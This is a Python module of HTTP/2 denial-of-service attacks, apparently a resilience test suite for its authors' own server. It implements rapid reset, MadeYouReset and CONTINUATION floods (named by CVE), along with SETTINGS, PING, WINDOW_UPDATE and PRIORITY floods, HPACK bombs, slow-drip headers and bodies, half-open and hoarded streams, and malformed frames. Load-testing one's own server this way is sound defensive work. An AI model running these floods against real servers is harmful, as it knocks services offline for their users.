"""Attacks that speak HTTP/2, on the cleartext listener. Each goes on until its time is over."""
import itertools
import json
import os
import struct
import time

import bounds
import http2
import target
from http2 import CONTINUATION, DATA, END_HEADERS, END_STREAM, FRAME_OCTETS, HEADERS, PING, PRIORITY, SETTINGS

STREAMS = 128  # of a connection, as the server announces them (max_streams)
HELD_CONNECTIONS = 150  # with all their streams just within max_half_open_streams: of more the server closes some long before a timeout
WINDOW_OCTETS = 65535  # RFC 9113, 6.9.2: of a stream and of a connection, unless the server gives more
NDJSON = ("content-type", "application/x-ndjson")
JSON = ("content-type", "application/json")
BAD_LINES = b"x\n" * 100  # each of them is a problem of the report: some 10 KB


def _challenges(connection, count):
    """Frames that ask for so many challenges: answers of some 400 octets."""
    return b"".join(connection.request("POST", target.CHALLENGE_PATH, target.challenge_request())[0] for _ in range(count))


def request_flood(site):
    """Good requests, as many as go out: what any peer may ask, if nothing counts them."""
    site.waves((target.CHALLENGE_PATH, target.challenge_request()) for _ in itertools.count())


def _keep(site, count, begin, go_on, *first_settings):
    """So many connections, with each of which begin() is called once and go_on() again and again. What the server closes is opened again."""
    kept = []

    def lasts(connection, work):
        try:
            work(connection)
            return True
        except http2.Ended:
            connection.close()
            site.seen["closed by the server"] += 1
            return False
    try:
        while not site.is_over():
            try:
                while len(kept) < site.most(count) and not site.is_over():
                    connection = site.open(*first_settings)
                    kept += [connection] if lasts(connection, begin) else []
            except (OSError, http2.Ended):
                site.seen["not accepted"] += 1
            site.pause(0.1)
            kept = [connection for connection in kept if lasts(connection, go_on)]
    finally:
        for connection in kept:
            connection.close()


def rapid_reset(site):
    """CVE-2023-44487: a request and its reset, at once."""
    def talk(connection):
        def one():
            octets, stream = connection.request("GET", target.VECTOR_PATH)
            return octets + http2.reset(stream)
        site.flood(connection, one)
    site.each_connection(talk)


def rapid_reset_of_writes(site):
    """The same with requests whose handlers wait for the disk: they go on when the stream is gone."""
    body = json.dumps(target.vector()).encode()

    def talk(connection):
        def one():
            octets, stream = connection.request("PUT", f"{target.VECTORS_PATH}/{901709000000000 + _number(connection)}", body)
            return octets + http2.reset(stream)
        site.flood(connection, one, 100)
    site.each_connection(talk)


def _number(connection):
    return connection.next_stream % 1000


def made_you_reset(site):
    """CVE-2025-8671: whole requests, then a window update that overflows the stream's window, so that the server resets the stream."""
    body = json.dumps(target.vector()).encode()

    def talk(connection):
        def one():
            octets, stream = connection.request("PUT", f"{target.VECTORS_PATH}/{901709000000000 + _number(connection)}", body)
            return octets + http2.window_update(stream, 0x7FFFFFFF)
        site.flood(connection, one, 100)
    site.each_connection(talk)


def continuation_flood(site):
    """CVE-2024-27316 and its like: a header block that never ends."""
    def talk(connection):
        stream = connection.stream()
        connection.send(http2.frame(HEADERS, 0, stream, http2.request_block("GET", connection.authority, "/")), site.until)
        site.flood(connection, http2.frame(CONTINUATION, 0, stream, http2.literal("x", "y" * 100)) * 500)
    site.each_connection(talk)


def empty_continuation_flood(site):
    def talk(connection):
        stream = connection.stream()
        connection.send(http2.frame(HEADERS, 0, stream, http2.request_block("GET", connection.authority, "/")), site.until)
        site.flood(connection, http2.frame(CONTINUATION, 0, stream) * 5000)
    site.each_connection(talk)


def settings_flood(site):
    """Each asks for an acknowledgement, and changes the windows of all the streams that are open."""
    def talk(connection):
        connection.send(b"".join(connection.headers(connection.stream(), "POST", target.CHALLENGE_PATH, [JSON], False)
                                 for _ in range(100)), site.until)
        site.flood(connection, (http2.settings((http2.INITIAL_WINDOW_SIZE, 1)) + http2.settings((http2.INITIAL_WINDOW_SIZE, 65535))) * 400)
    site.each_connection(talk)


def paced_settings(site):
    """As settings_flood, but never so many unanswered ones that they are a flood to the protocol library."""
    def talk(connection):
        connection.send(b"".join(connection.headers(connection.stream(), "POST", target.CHALLENGE_PATH, [JSON], False)
                                 for _ in range(100)), site.until)
        sent, octets = 0, (http2.settings((http2.INITIAL_WINDOW_SIZE, 1)) + http2.settings((http2.INITIAL_WINDOW_SIZE, 65535))) * 200
        before = site.seen["SETTINGS answered"]
        while not site.is_over():
            connection.send(octets, site.until)
            sent += 400
            while site.seen["SETTINGS answered"] - before < sent - 400 and not site.is_over():
                connection.wait(site.until)
    site.each_connection(talk)


def ping_flood(site):
    site.each_connection(lambda connection: site.flood(connection, http2.frame(PING, 0, 0, b"attacker") * 2000))


def unread_pings(site):
    """Pings whose answers nobody reads: they would pile up."""
    def talk(connection):
        while not site.is_over():
            connection.send(http2.frame(PING, 0, 0, b"attacker") * 500, site.until, reads=False)
            site.pause(0.001)
    site.each_connection(talk)


def empty_data_flood(site):
    """DATA frames without octets: flow control does not count them."""
    def talk(connection):
        stream = connection.stream()
        connection.send(connection.headers(stream, "POST", target.CHALLENGE_PATH, [JSON], False), site.until)
        site.flood(connection, http2.frame(DATA, 0, stream) * 20000)
    site.each_connection(talk)


def padded_data_flood(site):
    """DATA frames of nothing but padding."""
    def talk(connection):
        stream = connection.stream()
        connection.send(connection.headers(stream, "POST", target.CHALLENGE_PATH, [JSON], False), site.until)
        site.flood(connection, http2.frame(DATA, 8, stream, b"\x03\0\0\0") * 10000)
    site.each_connection(talk)


def window_update_flood(site):
    site.each_connection(lambda connection: site.flood(connection, http2.window_update(0, 1) * 15000))


def priority_flood(site):
    """Each of another stream that does not exist yet."""
    octets = b"".join(http2.frame(PRIORITY, 0, 2 * n + 1001, struct.pack(">IB", 2 * (n * 7 % 5000) + 11001, n % 256)) for n in range(10000))
    site.each_connection(lambda connection: site.flood(connection, octets))


def unknown_frame_flood(site):
    """Frames of a type that nobody knows are to be ignored."""
    site.each_connection(lambda connection: site.flood(connection, http2.frame(0xF0, 0, 0) * 20000))


def hpack_bomb(site):
    """A field of nearly 4 KiB enters the table once; then every octet of a header block stands for it."""
    enters = b"\x40" + http2.text("x") + http2.text(b"y" * 4000)

    def talk(connection):
        connection.send(http2.frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(),
                                    http2.request_block("GET", connection.authority, "/") + enters), site.until)
        start = http2.request_block("GET", connection.authority, "/")

        def one():
            return http2.frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), start + b"\xbe" * (FRAME_OCTETS - len(start)))
        site.flood(connection, one, 10)
    site.each_connection(talk)


def hpack_table_sizes(site):
    """Header blocks that begin with thousands of changes of the table's size, and fill it again."""
    sizes = (http2.integer(0, 5, 0x20) + http2.integer(4096, 5, 0x20)) * 2000
    enters = b"".join(b"\x40" + http2.text(f"x{n}") + http2.text("y" * 20) for n in range(60))

    def talk(connection):
        block = sizes + http2.request_block("GET", connection.authority, "/") + enters

        def one():
            return http2.frame(HEADERS, END_HEADERS | END_STREAM, connection.stream(), block)
        site.flood(connection, one, 20)
    site.each_connection(talk)


def windows_of_one_octet(site):
    """Answers, each octet of which is asked for by itself."""
    def talk(connection):
        connection.send(_challenges(connection, 100), site.until)
        streams = range(1, 200, 2)
        site.flood(connection, b"".join(http2.window_update(stream, 1) for stream in streams) * 20)
    site.each_connection(talk, (http2.INITIAL_WINDOW_SIZE, 1))


def shut_windows(site):
    """Answers that are asked for on many connections and never taken; again, when the server has ended them."""
    def begin(connection):
        connection.send(_challenges(connection, 100), site.until)

    def go_on(connection):
        connection.take()
        if not _open_streams(connection):
            begin(connection)
    _keep(site, 100, begin, go_on, (http2.INITIAL_WINDOW_SIZE, 0))


def half_open_streams(site):
    """Every stream that is announced, on many connections, each a request whose body never comes."""
    kept = []
    try:
        while len(kept) < site.most(500) and not site.is_over():
            connection = site.open()
            kept.append(connection)
            connection.send(_half_open_requests(connection, STREAMS), site.until)
        site.seen["streams open"] += STREAMS * len(kept)
        while not site.is_over():
            site.pause(0.5)
            for connection in kept:
                connection.take()
    except http2.Ended:
        pass
    finally:
        for connection in kept:
            connection.close()


def half_open_streams_held(site):
    """The same, as many as the server's limits let be: what it ends after its timeout is opened again, and so is what it closes."""
    kept = []
    try:
        while not site.is_over():
            try:
                while len(kept) < site.most(HELD_CONNECTIONS) and not site.is_over():
                    kept.append(site.open())
            except (OSError, http2.Ended):
                site.seen["not accepted"] += 1
            kept = [connection for connection in kept if _fill_up(site, connection)]
            site.pause(0.1)
        site.seen["streams open at the end"] += sum(_open_streams(connection) for connection in kept)
    finally:
        for connection in kept:
            connection.close()


def _half_open_requests(connection, count):
    """Frames of so many requests whose bodies never come."""
    return b"".join(connection.headers(connection.stream(), "POST", target.CHALLENGE_PATH, [JSON], False) for _ in range(count))


def _open_streams(connection):
    """How many of those that were begun have not ended."""
    return connection.next_stream // 2 - len(connection.ended)


def _fill_up(site, connection):
    """Begins as many requests as have ended. False if the server has closed the connection."""
    try:
        connection.take()
        connection.send(_half_open_requests(connection, STREAMS - _open_streams(connection)), site.until)
        return True
    except http2.Ended:
        return False


def hoarded_bodies(site):
    """On every stream of some connections a body that is nearly as long as it may be, and does not end: in all more than max_buffered_bytes."""
    connections, frames = bounds.hoarding(bounds.limits_in_force())

    def begin(connection):
        streams = [connection.stream() for _ in range(STREAMS)]
        connection.send(b"".join(connection.headers(stream, "POST", target.CHALLENGE_PATH, [JSON], False) for stream in streams), site.until)
        for _, stream in itertools.product(range(frames), streams):
            if site.is_over():
                break
            # The stream's window of 256 KiB is enough; the connection's, of 4 MiB, opens again as it is read.
            connection.send(http2.frame(DATA, 0, stream, b" " * FRAME_OCTETS), site.until)
    _keep(site, connections, begin, http2.Connection.take)


def hoarded_imports(site):
    """Bodies that are read as they come, each with a window full of a line that does not end."""
    kept = []
    try:
        while len(kept) < site.most(50) and not site.is_over():
            connection = site.open()
            kept.append(connection)
            for _ in range(128):
                stream = connection.stream()
                connection.send(connection.headers(stream, "POST", target.VECTORS_PATH, [NDJSON], False) +
                                http2.frame(DATA, 0, stream, b"{" * 4000), site.until)
        site.rest()
    except http2.Ended:
        pass
    finally:
        for connection in kept:
            connection.close()


def bad_lines(site):
    """An import of nothing but bad lines: two octets each."""
    def talk(connection):
        stream = connection.stream()
        connection.send(connection.headers(stream, "POST", target.VECTORS_PATH, [NDJSON], False), site.until)
        piece = http2.frame(DATA, 0, stream, b"x\n" * (FRAME_OCTETS // 2))
        while not site.is_over():  # flow control is not minded: the server ends the stream then, and the next one begins
            connection.send(piece, site.until)
            connection.wait(min(site.until, time.monotonic() + 0.001))
            if stream in connection.ended:
                break
    site.each_connection(talk)


def abandoned_imports(site):
    """As many imports of bad lines as a connection takes, which goes then and leaves the server with them."""
    while not site.is_over():
        connection = site.open()
        try:
            for _ in range(128):
                stream = connection.stream()
                connection.send(connection.headers(stream, "POST", target.VECTORS_PATH, [NDJSON], False), site.until)
                for _ in range(3):
                    connection.send(http2.frame(DATA, 0, stream, b"x\n" * (FRAME_OCTETS // 2)), site.until)
            connection.take()
        except http2.Ended:
            pass
        finally:
            connection.close()


def slow_headers(site):
    """A header block of which an octet comes each second: a field's value that is to be of 800."""
    block = http2.request_block("GET", "a", "/") + b"\x00\x01x\x7f\xa1\x05"  # RFC 7541, 5.1: 127, and 673 more
    first = http2.PREFACE + http2.settings() + http2.frame(HEADERS, END_HEADERS | END_STREAM, 1, block + bytes(800))[:9] + block
    site.drip(site.http2, site.most(1000), first, b"a")


def slow_bodies(site):
    """A body of which an octet comes each second, in a frame that was announced whole."""
    head = http2.frame(HEADERS, END_HEADERS, 1, http2.request_block("POST", "a", target.CHALLENGE_PATH, [JSON]))
    site.drip(site.http2, site.most(1000), http2.PREFACE + http2.settings() + head + http2.frame(DATA, 0, 1, bytes(1000))[:9], b" ")


def oversized_frames(site):
    """Frames that are longer than we allow, of each kind in turn."""
    kinds = itertools.cycle((DATA, HEADERS, SETTINGS, PING, CONTINUATION, 0xF0))

    def talk(connection):
        kind = next(kinds)
        connection.send(http2.frame(kind, 0, 0 if kind in (SETTINGS, PING) else 1, bytes(FRAME_OCTETS + 1)) * 8, site.until)
        while not site.is_over():
            connection.wait(site.until)
    site.each_connection(talk)


def misused_streams(site):
    """Numbers of streams that are even, go backwards, are zero, or were never opened; each of it ends a connection."""
    block = http2.request_block("GET", "a", "/")
    whole = END_HEADERS | END_STREAM
    wrong = itertools.cycle((
        http2.frame(HEADERS, whole, 2, block), http2.frame(HEADERS, whole, 0, block), http2.frame(DATA, 0, 0, b"x"),
        http2.frame(DATA, 0, 7, b"x"), http2.frame(HEADERS, whole, 9, block) + http2.frame(HEADERS, whole, 3, block),
        http2.frame(HEADERS, whole, 1, block) * 2, http2.frame(HEADERS, whole, 1, block) + http2.frame(DATA, END_STREAM, 1, b"x"),
        http2.reset(5), http2.window_update(5, 1), http2.window_update(0, 0), http2.frame(SETTINGS, 0, 1),
        http2.frame(HEADERS, whole, 0x7FFFFFFF, block) * 2, http2.frame(CONTINUATION, END_HEADERS, 1, block),
        http2.frame(http2.PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2) + block), os.urandom(64)))

    def talk(connection):
        connection.send(next(wrong), site.until)
        connection.send(http2.frame(PING, 0, 0, b"attacker"), site.until)
        before = site.seen["PING answered"]
        while not site.is_over() and site.seen["PING answered"] == before:
            connection.wait(site.until)
    site.each_connection(talk)


def large_bodies(site):
    """Bodies of 8 MiB, said beforehand, which are refused, and sent all the same."""
    size = 8 * target.MIB

    def talk(connection):
        while not site.is_over():
            stream = connection.stream()
            octets = connection.headers(stream, "POST", target.CHALLENGE_PATH, [JSON, ("content-length", str(size))], False)
            connection.send(octets + http2.frame(DATA, 0, stream, bytes(FRAME_OCTETS)) * (size // FRAME_OCTETS), site.until)
    site.each_connection(talk)


def bodies_of_many_values(site):
    """Bodies as long as they may be by default, of as many members as there is room for, each answered before the next comes."""
    body = b"{" + b",".join(b'"%x":0' % number for number in range(25000)) + b"}"
    frames = [body[at:at + FRAME_OCTETS] for at in range(0, len(body), FRAME_OCTETS)]

    def talk(connection):
        while not site.is_over():
            stream = connection.stream()
            octets = connection.headers(stream, "POST", target.CHALLENGE_PATH, [JSON, ("content-length", str(len(body)))], False)
            octets += b"".join(http2.frame(DATA, END_STREAM if piece is frames[-1] else 0, stream, piece) for piece in frames)
            connection.send(octets, site.until)
            connection.answer(stream, site.until)
    site.each_connection(talk)


def vanishing_clients(site):
    """They ask for a hundred answers, take the first octets, and are gone with a RST."""
    while not site.is_over():
        try:
            connection = site.open()
            connection.send(_challenges(connection, 100), site.until)
            connection.wait(site.until)
            connection.close(abruptly=True)
        except (OSError, http2.Ended):
            site.seen["not accepted"] += 1
